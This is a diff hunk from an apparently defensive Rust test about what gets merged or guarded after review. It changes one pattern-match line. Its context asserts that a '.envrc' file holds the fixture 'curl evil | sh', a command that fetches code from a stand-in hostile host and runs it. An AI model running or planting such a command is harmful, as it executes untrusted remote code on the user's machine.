@@ -116,7 +116,7 @@ fn what_was_reviewed_is_merged_and_what_is_guarded_only_when_named() {
     assert_eq!(fs::read_to_string(room.path("work/.envrc")).unwrap(), "curl evil | sh\n");
     let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
     assert_eq!(pending(&room, &id), Some(0));
-    let Reply::Verified { segments } = room.yes(Request::Verify(of(&id, &[]))) else { panic!() };
+    let Reply::Verified { segments, .. } = room.yes(Request::Verify(of(&id, &[]))) else { panic!() };
     assert_eq!(segments[0].broken, None);
 }
 
